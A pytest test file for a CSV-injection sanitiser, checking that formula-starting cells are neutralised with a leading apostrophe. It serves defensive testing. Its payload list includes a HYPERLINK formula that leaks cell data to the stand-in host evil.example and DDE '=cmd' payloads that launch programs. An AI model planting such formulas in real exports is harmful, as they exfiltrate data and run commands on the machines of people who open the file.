"""Spreadsheet-safe CSV cells (OWASP CSV injection): a formula start gets a leading apostrophe, nothing else
changes."""

from __future__ import annotations

import csv
import io

import pytest

from dermadesk.domain.csv_safety import is_dangerous, neutralise, neutralise_row

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+41 79 555 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "\n=1",
    "＝1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_neutralised_and_read_back_as_text(payload: str) -> None:
    safe = neutralise(payload)
    assert safe == "'" + payload and not is_dangerous(safe)
    out = io.StringIO()
    csv.writer(out).writerow([safe])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [safe]


@pytest.mark.parametrize("harmless", ["Zoë Ashby", "王芳", "", "12", "a=b", " =not first", "O'Neil"])
def test_harmless_cells_are_left_alone(harmless: str) -> None:
    assert neutralise(harmless) == harmless


def test_a_row_of_any_values_becomes_text() -> None:
    assert neutralise_row([1, None, "=x", 2.5]) == ["1", "", "'=x", "2.5"]
